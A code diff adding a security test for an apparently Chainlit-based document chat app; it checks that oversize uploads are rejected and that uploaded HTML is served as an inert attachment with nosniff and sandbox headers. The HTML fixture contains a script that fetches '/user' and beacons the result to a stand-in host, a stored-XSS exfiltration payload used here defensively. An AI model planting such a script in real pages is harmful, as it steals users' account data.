@@ -369,3 +369,35 @@ async def test_another_session_cannot_publish_a_chats_private_upload(local_app):
         assert owner.click(share).status_code == 200
         await owner.wait_for("is now shared knowledge")
         assert [p.read_text() for p in shared.iterdir()] == ["# Private\n\nThe vault code is 4711.\n"]
+
+
+async def test_an_over_size_upload_is_never_stored_and_an_html_upload_is_served_inert(local_app):
+    import asyncio
+
+    cookies = local_cookies(local_app)
+    big = b"# Big\n\n" + b"word " * 300_000  # 1.5 MB: under Chainlit's cap, over ASSISTANT_UPLOAD_MAX_MB=1
+    page = (b"<!doctype html><p>Quarterly notes: the margin target is nine percent.</p>"
+            b"<script>fetch('/user').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))</script>")
+    async with ChatSession(local_app, cookies) as chat:
+        await chat.wait_for("Answers come from your documents")
+        await chat.send("", files=[("big-notes.md", big, "text/markdown"), ("page.html", page, "text/html")])
+        await chat.wait_for("big-notes.md** was not added")
+        await chat.wait_for("page.html** is ready for this conversation")
+        files_root = local_app.data_dir / "files"
+        deadline = time.monotonic() + 30
+        while not list(files_root.rglob("page.html")):  # elements are stored in the background
+            assert time.monotonic() < deadline, "the accepted upload was never stored"
+            await asyncio.sleep(0.2)
+        await asyncio.sleep(1)
+        assert not list(files_root.rglob("big-notes.md")), "the over-size upload was stored"
+
+        key = next(files_root.rglob("page.html")).relative_to(files_root).as_posix()
+        deadline = time.monotonic() + 30
+        while (response := httpx.get(f"{local_app.url}/storage/{key}", cookies=cookies, timeout=10)).status_code == 404:
+            assert time.monotonic() < deadline, "the owner cannot read their stored file"
+            await asyncio.sleep(0.5)  # the element row and its thread are written in the background
+        assert response.status_code == 200 and response.content == page
+        assert response.headers["content-type"] == "application/octet-stream"
+        assert response.headers["content-disposition"].startswith("attachment;")
+        assert response.headers["x-content-type-options"] == "nosniff"
+        assert "sandbox" in response.headers["content-security-policy"]
